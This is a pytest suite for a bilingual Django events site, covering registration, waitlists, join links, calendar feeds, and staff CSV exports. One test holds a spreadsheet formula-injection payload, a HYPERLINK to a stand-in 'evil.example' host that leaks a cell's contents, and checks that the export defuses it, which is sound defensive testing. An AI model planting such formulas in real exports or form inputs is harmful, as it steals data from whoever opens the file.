"""What members and staff see: the event page, joining, the index, Mon espace, exports."""

from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils import timezone, translation

from events import services
from events.models import Registration

from .factories import event_theme, event_translation

pytestmark = pytest.mark.django_db
TORONTO = ZoneInfo("America/Toronto")


def url(name, *args, language="fr"):
    with translation.override(language):
        return reverse(f"events:{name}", args=args)


def test_event_page_shows_the_date_the_quebec_way(make_event, client):
    page = make_event(
        start=datetime(2026, 12, 8, 13, 30, tzinfo=TORONTO),
        end=datetime(2026, 12, 8, 15, 0, tzinfo=TORONTO),
    )
    html = client.get(page.url).content.decode()
    assert "mardi 8 décembre 2026, de 13 h 30 à 15 h" in html
    assert "Se connecter pour s&#x27;inscrire" in html or "Se connecter pour s'inscrire" in html
    english = event_translation(page)
    html = client.get(english.url).content.decode()
    assert "Tuesday, December 8, 2026, from 1:30 p.m. to 3:00 p.m." in html


def badge(client, page) -> str:
    html = client.get(page.url).content.decode()
    start = html.index('data-state="')
    return html[html.index(">", start) + 1 : html.index("</span>", start)]


def test_state_badges_say_where_the_member_stands(make_event, make_member, member, client):
    page = make_event(capacity=1)
    client.force_login(member)
    assert badge(client, page) == "Inscriptions ouvertes"
    services.registration_create(event=page, user=member)
    assert badge(client, page) == "Inscrit·e"
    other = make_member()
    client.force_login(other)
    assert badge(client, page) == "Complet"
    services.registration_create(event=page, user=make_member())
    services.registration_create(event=page, user=make_member())
    services.registration_create(event=page, user=other)
    assert badge(client, page) == "Sur la liste d&#x27;attente — 3ᵉ"
    closed = make_event(registration_closes_at=timezone.now() - timedelta(minutes=1))
    assert badge(client, closed) == "Inscriptions fermées"


def test_one_click_registration_and_cancellation(make_event, member_client, member):
    page = make_event(capacity=5)
    response = member_client.post(url("register", page.pk), follow=True)
    assert response.redirect_chain[-1][0] == page.url
    assert "Vous êtes inscrit·e." in response.content.decode()
    assert Registration.objects.get(user=member).status == "confirmed"
    again = member_client.post(url("register", page.pk), follow=True)
    assert "Vous êtes déjà inscrit·e à cet événement." in again.content.decode()
    assert Registration.objects.count() == 1
    member_client.post(url("cancel", page.pk))
    assert Registration.objects.get(user=member).status == "cancelled"


def test_registering_requires_signing_in_and_post(make_event, member_client):
    from django.test import Client

    page = make_event()
    response = Client().post(url("register", page.pk))
    assert response.status_code == 302 and "/compte/" in response["Location"]
    assert member_client.get(url("register", page.pk)).status_code == 405
    assert not Registration.objects.exists()


def test_optional_questions_are_asked_in_the_form(make_event, member_client, member):
    page = make_event(questions="Votre région?")
    assert "Votre région?" in member_client.get(page.url).content.decode()
    member_client.post(url("register", page.pk), {"answer_0": "Outaouais"})
    assert Registration.objects.get(user=member).answers == {"Votre région?": "Outaouais"}


def test_join_page_shows_the_link_only_to_confirmed_registrants_when_it_is_time(
    make_event, make_member, member, client
):
    soon = make_event(start=timezone.now() + timedelta(minutes=10), capacity=1)
    later = make_event(start=timezone.now() + timedelta(hours=3))
    services.registration_create(event=soon, user=member)
    services.registration_create(event=later, user=member)
    waiting = make_member()
    services.registration_create(event=soon, user=waiting)
    client.force_login(member)
    live = client.get(url("join", soon.pk))
    assert live.status_code == 200 and "zoom.example/j/secret-123" in live.content.decode()
    assert live["Cache-Control"] == "private, no-store"
    early = client.get(url("join", later.pk))
    assert early.status_code == 200 and "zoom.example" not in early.content.decode()
    assert "15 minutes avant le début" in early.content.decode()
    client.force_login(waiting)
    refused = client.get(url("join", soon.pk))
    assert refused.status_code == 403 and "zoom.example" not in refused.content.decode()
    client.logout()
    assert client.get(url("join", soon.pk)).status_code == 302


def test_event_page_offers_add_to_calendar_links(make_event, client):
    page = make_event()
    html = client.get(page.url).content.decode()
    assert "Ajouter à mon agenda" in html
    assert "https://calendar.google.com/calendar/render?action=TEMPLATE" in html
    assert "https://outlook.live.com/calendar/0/deeplink/compose?" in html
    assert "https://outlook.office.com/calendar/0/deeplink/compose?" in html
    assert f"webcal://testserver{url('event_ics', page.pk)}" not in html
    assert f"http://testserver{url('event_ics', page.pk)}" in html


def test_past_event_leads_to_its_replay(make_event, client):
    page = make_event(
        start=timezone.now() - timedelta(days=3), replay_url="https://video.example/replay"
    )
    html = client.get(page.url).content.decode()
    assert "https://video.example/replay" in html
    assert "Événement passé" in html


def test_index_lists_upcoming_and_past_filters_and_announces_the_feed(
    index, make_event, client, django_assert_max_num_queries
):
    data = event_theme("donnees", "Données", ("data", "Data"))
    make_event(title="À venir données", themes=[data])
    make_event(title="À venir hybride", format="hybrid")
    make_event(title="Passé", start=timezone.now() - timedelta(days=10))
    response = client.get("/fr/evenements/")
    html = response.content.decode()
    assert response.status_code == 200
    assert (
        f'<link rel="alternate" type="text/calendar" title="Événements de DATAide Hub" '
        f'href="http://testserver{url("feed")}">' in html
    )
    assert "S&#x27;abonner" in html or "S'abonner" in html
    upcoming, past = html.split('id="past-title"')
    assert "À venir données" in upcoming and "Passé" in past
    filtered = client.get("/fr/evenements/?theme=donnees").content.decode()
    assert "À venir données" in filtered and "À venir hybride" not in filtered
    assert url("theme_feed", "donnees") in filtered
    hybrid = client.get("/fr/evenements/?format=hybrid").content.decode()
    assert "À venir hybride" in hybrid and "À venir données" not in hybrid
    for _ in range(10):
        make_event(themes=[data])
    with django_assert_max_num_queries(25):
        client.get("/fr/evenements/")


def test_home_page_shows_upcoming_events(make_event, client):
    make_event(title="Le prochain webinaire")
    assert "Le prochain webinaire" in client.get("/fr/").content.decode()


def test_my_space_lists_my_events_and_my_private_calendar(make_event, member_client, member):
    page = make_event(title="Mon webinaire")
    services.registration_create(event=page, user=member)
    html = member_client.get(reverse("accounts:dashboard")).content.decode()
    assert "Mes événements" in html and "Mon webinaire" in html
    token = member.calendar_token.token
    assert f"webcal://testserver{url('private_feed', token)}" in html
    member_client.post(url("token_regenerate"))
    member.calendar_token.refresh_from_db()
    assert member.calendar_token.token != token


def test_staff_export_registrations_as_csv_excel_reads(make_event, make_member, client):
    page = make_event(questions="Votre région?")
    francois = make_member(first_name="François", last_name="Gagné")
    services.registration_create(event=page, user=francois, answers={"Votre région?": "Québec"})
    assert client.get(url("registrations_csv", page.pk)).status_code == 302
    client.force_login(make_member(is_staff=True))
    response = client.get(url("registrations_csv", page.pk))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())
    text = response.content.decode("utf-8-sig")
    assert "François Gagné" in text and "Québec" in text and "Inscrit·e" in text


FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Voir")'


def test_a_formula_typed_as_an_answer_reaches_the_spreadsheet_as_text(
    make_event, make_member, client
):
    # Excel and LibreOffice run a cell that starts with "=" (or + - @, tab, CR): the export
    # writes it with a leading apostrophe, which spreadsheets read as "this is text".
    import csv
    import io

    page = make_event(questions="Votre région?")
    author = make_member(first_name="@SUM(1+1)", last_name="Gagné")
    services.registration_create(event=page, user=author, answers={"Votre région?": FORMULA})
    client.force_login(make_member(is_staff=True))
    response = client.get(url("registrations_csv", page.pk))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][-1] == "'" + FORMULA
    assert rows[1][0] == "'@SUM(1+1) Gagné"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_members_cannot_see_the_registration_list(make_event, member_client):
    page = make_event()
    assert member_client.get(url("registrations", page.pk)).status_code == 302


def test_staff_mark_attendance_from_the_list(make_event, make_member, client):
    page = make_event()
    there = services.registration_create(event=page, user=make_member())
    absent = services.registration_create(event=page, user=make_member())
    client.force_login(make_member(is_staff=True))
    assert client.get(url("registrations", page.pk)).status_code == 200
    client.post(url("registrations", page.pk), {"attended": [str(there.pk)]})
    there.refresh_from_db()
    absent.refresh_from_db()
    assert there.attended is True and absent.attended is False


def test_staff_write_to_the_registrants(
    make_event, make_member, client, django_capture_on_commit_callbacks
):
    from django.core import mail

    page = make_event(capacity=1)
    confirmed = make_member()
    services.registration_create(event=page, user=confirmed)
    services.registration_create(event=page, user=make_member())  # waitlisted
    mail.outbox.clear()
    client.force_login(make_member(is_staff=True))
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            url("registrations", page.pk),
            {"action": "message", "subject": "Salle changée", "body": "Local 204 <b>svp</b>"},
        )
    (message,) = mail.outbox
    assert message.to == [confirmed.email]
    assert message.subject == f"{page.title} — Salle changée"
    assert "Local 204 <b>svp</b>" in message.body  # plain text, sent as typed


def test_the_admin_edits_event_pages_and_links_to_registrations(make_event, make_member, client):
    page = make_event()
    client.force_login(make_member(is_staff=True, is_superuser=True))
    assert client.get(f"/admin/pages/{page.pk}/edit/").status_code == 200
    listing = client.get(f"/admin/pages/{page.get_parent().pk}/")
    assert url("registrations", page.pk) in listing.content.decode()
